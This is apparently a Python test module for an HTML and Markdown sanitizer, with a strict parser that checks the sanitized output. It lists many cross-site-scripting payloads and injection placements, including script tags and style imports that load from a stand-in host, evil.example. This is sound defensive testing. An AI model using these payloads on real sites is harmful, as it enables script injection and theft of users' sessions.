"""Hostile markup, the places where it may stand, and a strict reader of what became of it."""

from html.parser import HTMLParser

MATHML = {
    "math", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mphantom", "mroot", "mrow", "ms", "mspace",
    "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder",
    "munderover", "menclose", "mmultiscripts", "mprescripts", "none",
}  # fmt: skip
ELEMENTS = MATHML | {
    "a", "abbr", "blockquote", "br", "code", "dd", "details", "div", "dl", "dt", "em", "figcaption",
    "figure", "h2", "h3", "h4", "h5", "h6", "hr", "img", "kbd", "li", "ol", "p", "pre", "s", "span",
    "strong", "sub", "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
VOID = {"br", "hr", "img"}
ANYWHERE = {"class", "id", "aria-label", "role", "tabindex", "title"}
ATTRIBUTES = {
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height", "loading", "decoding"},
    "ol": {"start"},
    "th": {"scope"},
}

SCRIPTS = [
    "<script>{x}</script>",
    "<ScRiPt\n>{x}</ScRiPt >",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<script/src=//evil.example></script>",
    "<img src=x onerror={x}>",
    '<img src="x" onerror="{x}"/>',
    "<img/src/onerror={x}>",
    "<svg onload={x}>",
    "<svg><script>{x}</script></svg>",
    "<svg><style><img src=x onerror={x}></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={x}&gt;">',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={x}></annotation-xml></math>',
    "<math href=javascript:{x}>a</math>",
    "<iframe srcdoc='<script>{x}</script>'></iframe>",
    "<object data=javascript:{x}></object>",
    "<embed src=javascript:{x}>",
    "<form action=javascript:{x}><input type=submit></form>",
    "<button formaction=javascript:{x}>a</button>",
    "<input autofocus onfocus={x}>",
    "<details open ontoggle={x}>",
    "<video><source onerror={x}></video>",
    "<body onload={x}>",
    "<base href=javascript:{x}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<style>*{{background:url(javascript:{x})}}</style>",
    "<p style=background:url(javascript:{x})>a</p>",
    "<a href=javascript:{x}>a</a>",
    "<a href=' javascript:{x}'>a</a>",
    "<a href='java&#x09;script:{x}'>a</a>",
    "<kbd onclick={x}>a</kbd>",
    "<kbd style='x:{x}'>a</kbd>",
    "<kbd id=bar class=btn hx-get=/logout data-x=1>a</kbd>",
    "<abbr title='\" onmouseover={x} a=\"'>a</abbr>",
    '<abbr title="\'><script>{x}</script>">a</abbr>',
    "<sub/onclick={x}>a</sub>",
    "<br onclick={x}>",
    "<br\n/\n>",
    "<div hx-on:click='{x}'>a</div>",
    "<template><script>{x}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'></noscript>",
    "<textarea></textarea><img src=x onerror={x}>",
    "<title><img title='</title><img src=x onerror={x}>'>",
    "<xmp></xmp><img src=x onerror={x}>",
    "<plaintext>",
    "<!--><img src=x onerror={x}>-->",
    "<!-- --!><img src=x onerror={x}> -->",
    "<![CDATA[<img src=x onerror={x}>]]>",
    "<?xml ?><img src=x onerror={x}>",
    "</p><script>{x}</script>",
    "</code></pre><script>{x}</script>",
    "</span></div></main><script>{x}</script>",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;",
    "\\<script>{x}\\</script>",
    "[a](javascript:{x})",
    "[a](javascript&colon;{x})",
    "[a](&#x6a;avascript:{x})",
    "[a](<java\tscript:{x}>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:{x})",
    '[a](https://e.org "\\" onmouseover={x} \\"")',
    '[a](https://e.org/"onmouseover={x})',
    "<javascript:{x}>",
    '<https://e.org/"onclick={x}>',
    "[a]: javascript:{x}\n\n[a]",
    "![a](javascript:{x})",
    '![" onerror={x} "](<time line.png>)',
    "![a](<time line.png> '\" onerror={x} \"')",
    '![a](x.png" onerror="{x})',
    '[x]{{fact=sora-closed" onclick="{x}}}',
    "[<script>{x}</script>]{{fact=sora-closed}}",
    '## a {{#"onclick={x}}}',
    "## a {{#x onclick={x}}}",
    '## "><script>{x}</script>',
    "::: details <script>{x}</script>\na\n:::",
    '::: hint" onclick={x}\na\n:::',
    '> [!NOTE" onclick={x}]\n> a',
    "```<script>{x}</script>\na\n```",
    '```python" onclick={x}\na\n```',
    "```html\n<script>{x}</script>\n```",
    '```diagram {{alt="<script>{x}</script>" caption="<img src=x onerror={x}>"}}\n<script>│</script>\n```',
    '```diagram {{alt="a\\" onclick={x} b=\\""}}\n│ <img src=x onerror={x}> 가\n```',
    "$<script>{x}</script>$",
    "$\\text{{<img src=x onerror={x}>}}$",
    "$\\text{{&lt;img src=x onerror={x}&gt;}}$",
    "$\\href{{javascript:{x}}}{{a}}$",
    "$\\style{{x:{x}}}{{a}}$",
    '$\\color{{"onclick={x}}}a$',
    "$$\n\\unicode{{x3c}}script>{x}\n$$",
    "a[^<script>{x}</script>]\n\n[^<script>{x}</script>]: b",
    "a[^1]\n\n[^1]: <img src=x onerror={x}>",
    "| <script>{x}</script> | b |\n| - | - |\n| <img src=x onerror={x}> | c |",
    "\ue000<script>{x}</script>\ue001",
    "\x00<scr\x00ipt>{x}</script>",
]
PLACES = [
    "{}",
    "a {} b",
    "- {}",
    "> {}",
    "## {}",
    "**{}**",
    "[{}](https://e.org)",
    "[{}](../latents/)",
    "![{}](<time line.png>)",
    "[{}]{{fact=sora-closed}}",
    "<kbd>{}</kbd>",
    "<abbr title='{}'>a</abbr>",
    "::: details {}\n{}\n:::",
    "> [!TIP]\n> {}",
    "| a |\n| - |\n| {} |",
    "a[^1]\n\n[^1]: {}",
    "`{}`",
    "```\n{}\n```",
    "```python\n{}\n```",
    '```diagram {{alt="{}" caption="{}"}}\n{}\n```',
    "$ {} $ ${}$",
    "Term\n: {}",
    "{} {{#mental-model}}",
]
CODE = "alert(1)"


class Page(HTMLParser):
    """Reads HTML strictly: elements nest, and only what a lesson may hold is there."""

    def __init__(self, prefix: str) -> None:
        super().__init__(convert_charrefs=True)
        self.prefix = prefix
        self.open: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS, tag
        assert not (tag == "a" and "a" in self.open), "a link in a link"
        for name, value in attrs:
            self.attribute(tag, name, value or "")
        assert len({name for name, _ in attrs}) == len(attrs)
        if tag not in VOID:
            self.open.append(tag)

    def attribute(self, tag: str, name: str, value: str) -> None:
        assert not name.startswith(("on", "hx-", "data-")), name
        assert name not in {"style", "srcdoc", "formaction", "xlink:href", "srcset"}, name
        if tag not in MATHML:
            assert name in ANYWHERE | ATTRIBUTES.get(tag, set()), (tag, name)
        if name in {"href", "src"}:
            assert value.startswith(("#" + self.prefix, "/asset/", "/en/", "https://", "http://", "mailto:")), value
        if name == "id":
            assert value.startswith(self.prefix), value
            self.ids.append(value)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        raise AssertionError(f"<{tag}/>")

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"declaration {data}")
